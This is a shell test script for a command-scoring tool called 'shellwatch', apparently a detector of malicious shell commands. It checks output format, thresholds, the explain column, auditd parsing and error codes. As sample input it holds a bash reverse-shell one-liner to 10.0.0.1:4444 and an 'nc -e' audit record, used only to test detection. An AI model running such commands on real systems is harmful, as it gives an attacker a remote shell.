#!/usr/bin/env bash
# score.sh: `shellwatch score` end to end: one result per input line in order (empty and binary
# lines too), escaping keeps one line per result, --threshold filters, --explain adds a column,
# --format auditd joins records, --model loads a file, and errors exit 1 (runtime: the input) or 2
# (usage: an option's value, a file an option names).
. "$(dirname "$0")/../lib.sh"
S() { "$SW_BIN" score "$@"; }

in=$SW_TMP/in.txt
printf '%s\n' 'ls -la' 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' '' 'echo a' > "$in"
printf 'tab\there\001\n' >> "$in"
out=$(S "$in")
check "one result per input line" test "$(wc -l <<<"$out")" -eq 5
check "every line is score TAB command" \
	awk -F'\t' 'NF != 2 || $1 !~ /^[01]\.[0-9]+$/ || $1 > 1 { exit 1 }' <<<"$out"
check "commands in input order" test "$(cut -f2 <<<"$out" | sed -n 1p)" = "ls -la" -a \
	"$(cut -f2 <<<"$out" | sed -n 4p)" = "echo a"
check "tabs and control bytes escaped" test "$(sed -n 5p <<<"$out" | cut -f2)" = 'tab\there\x01'
rev=$(sed -n 2p <<<"$out" | cut -f1) ls=$(sed -n 1p <<<"$out" | cut -f1)
check "reverse shell scores above ls" awk -v a="$rev" -v b="$ls" 'BEGIN { exit !(a > b) }'
check "stdin and - read the same" test "$(S - <"$in")" = "$out" -a "$(S <"$in")" = "$out"

thr=$(awk -v a="$rev" -v b="$ls" 'BEGIN { printf "%.6f", (a + b) / 2 }')
check "--threshold keeps only lines at or above" test "$(S --threshold "$thr" "$in" | cut -f2)" = \
	'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'
ex=$(S --explain "$in" | sed -n 2p)
check "--explain adds a third column with weights" \
	awk -F'\t' 'NF == 3 && $3 ~ /\([+-][0-9]+\.[0-9]+\)/ { ok = 1 } END { exit !ok }' <<<"$ex"

printf '%s\n' 'type=EXECVE msg=audit(1700000000.1:7): argc=2 a0="nc" a1_len=3 a1[0]=2D65' \
	'type=EXECVE msg=audit(1700000000.1:8): argc=1 a0="id"' \
	'type=EXECVE msg=audit(1700000000.1:7): a1[1]=20' > "$SW_TMP/audit.log"
aud=$(S --format auditd "$SW_TMP/audit.log")
check "auditd: events joined by id, in completion order" \
	test "$(cut -f2 <<<"$aud" | tr '\n' '|')" = "id|nc '-e '|"

cp "$SW_ROOT/models/default.swm" "$SW_TMP/m.swm"
check "--model FILE gives the embedded model's scores" test "$(S --model "$SW_TMP/m.swm" "$in")" = "$out"
echo "shellwatch-model 1" > "$SW_TMP/bad.swm"
S --model "$SW_TMP/bad.swm" "$in" >/dev/null 2>"$SW_TMP/err"; rc=$?
check "broken model: exit 2 with file:line" test "$rc" -eq 2 -a "$(cat "$SW_TMP/err")" = \
	"shellwatch score: $SW_TMP/bad.swm:2: unexpected end of file: expected 'kind linear'"
S "$SW_TMP/missing" >/dev/null 2>&1; rc=$?
check "missing input: exit 1" test "$rc" -eq 1
S --threshold 7 "$in" >/dev/null 2>&1; rc=$?
check "bad threshold: exit 2" test "$rc" -eq 2
S --format xml "$in" >/dev/null 2>&1; rc=$?
check "bad format: exit 2" test "$rc" -eq 2
check "--help names every option" bash -c "'$SW_BIN' score --help | grep -q -- --threshold &&
	'$SW_BIN' score --help | grep -q -- --explain && '$SW_BIN' score --help | grep -q -- --model"
